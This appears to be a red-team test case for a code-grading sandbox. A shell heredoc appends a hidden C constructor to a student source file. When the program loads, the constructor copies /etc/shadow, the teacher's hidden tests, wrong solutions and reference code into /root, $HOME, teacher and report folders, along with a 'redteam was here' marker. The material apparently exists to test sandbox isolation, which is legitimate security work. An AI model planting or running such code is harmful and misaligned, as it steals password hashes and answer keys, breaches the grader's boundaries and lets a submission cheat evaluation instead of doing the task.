# what: a constructor that reads /etc/shadow, the teacher's hidden tests, wrong solutions and reference, and writes them (and a marker) into /tmp, $HOME, the teacher's workbook and the report folders
# expect: 0
cat >>code/01_idx.c <<'EOF'
static void copy_out(const char *from, const char *to)
{
    FILE *in = fopen(from, "r"), *out = fopen(to, "a");
    int c;
    if (out != NULL)
        fprintf(out, "redteam was here\n");
    while (in != NULL && out != NULL && (c = fgetc(in)) != EOF)
        fputc(c, out);
    if (in != NULL)
        fclose(in);
    if (out != NULL)
        fclose(out);
}
__attribute__((constructor)) static void snoop(void)
{
    const char *secrets[] = {"/etc/shadow", "TEACHER/tests/hidden/test_07_sgd.c",
                             "TEACHER/tests/wrong_solutions.txt",
                             "TEACHER/tests/numpy_reference.py",
                             "../tests/hidden/test_07_sgd.c",
                             "TEACHER/code/07_sgd.c"};
    const char *places[] = {"MARK-tmp", "/root/redteam-pwned", "TEACHER/redteam-pwned",
                            "TEACHER/bin/class/redteam-pwned",
                            "TEACHER/bin/redteam/redteam-pwned",
                            "/sub/redteam-pwned", "/sub/bin/redteam-pwned"};
    for (size_t s = 0; s < sizeof secrets / sizeof *secrets; s++)
        for (size_t p = 0; p < sizeof places / sizeof *places; p++)
            copy_out(secrets[s], places[p]);
    const char *home = getenv("HOME");
    char path[4096];
    snprintf(path, sizeof path, "%s/redteam-pwned", home != NULL ? home : "/root");
    copy_out("/etc/shadow", path);
}
EOF
